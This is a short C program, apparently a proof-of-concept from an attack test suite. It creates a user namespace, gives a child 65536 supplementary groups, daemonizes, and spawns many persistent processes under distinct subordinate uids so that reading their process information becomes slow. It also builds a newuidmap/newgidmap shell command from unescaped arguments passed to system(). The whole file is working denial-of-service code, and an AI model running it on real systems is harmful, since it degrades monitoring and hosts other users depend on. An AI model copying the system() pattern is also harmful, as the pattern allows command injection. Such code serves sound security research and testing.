/* Makes its own processes slow to read: each has as many groups as the kernel allows, by a range of subordinate gids, and shares
   them with the others, so that they cost it nothing. Each has another subordinate uid, so that none is of the same user.
   Arguments: how many processes, and where the ranges begin. */
#include "attack.h"
#include <grp.h>

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    int keep_uid = argc > 3;
    int ready[2], go[2], status;
    char byte, command[256];
    if (pipe(ready) || pipe(go)) return 1;
    pid_t inner = fork();
    if (inner == 0) {
        if (unshare(CLONE_NEWUSER) != 0) _exit(3);
        if (write(ready[1], "x", 1) < 0 || read(go[0], &byte, 1) < 0) _exit(4);
        if (setresuid(0, 0, 0) != 0 || setresgid(0, 0, 0) != 0) _exit(5);
        gid_t *groups = malloc(65536 * sizeof *groups);
        for (int at = 0; at < 65536; at++) groups[at] = 1 + at % 65535;
        if (setgroups(65536, groups) != 0) _exit(6);
        daemonize();
        pid_t last = 0;
        for (int at = 0; at < atoi(argv[1]); at++)
            if ((last = fork()) == 0) {
                if (!keep_uid && setresuid(at + 1, at + 1, at + 1) != 0) _exit(10);
                for (;;) pause();
            }
        int fd = open("/tmp/proof.groups", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0 || dprintf(fd, "processes %s, the last %d\n", argv[1], last) < 0) _exit(7);
        for (;;) pause();
    }
    close(ready[1]);
    if (read(ready[0], &byte, 1) != 1) return 1;
    snprintf(command, sizeof command, "newuidmap %d 0 %u 1 1 %s 65535 && newgidmap %d 0 %u 1 1 %s 65535", inner, getuid(), argv[2], inner,
             getgid(), argv[2]);
    if (system(command) != 0) return 8;
    if (write(go[1], "x", 1) < 0 || waitpid(inner, &status, 0) < 0) return 9;
    return status != 0;
}
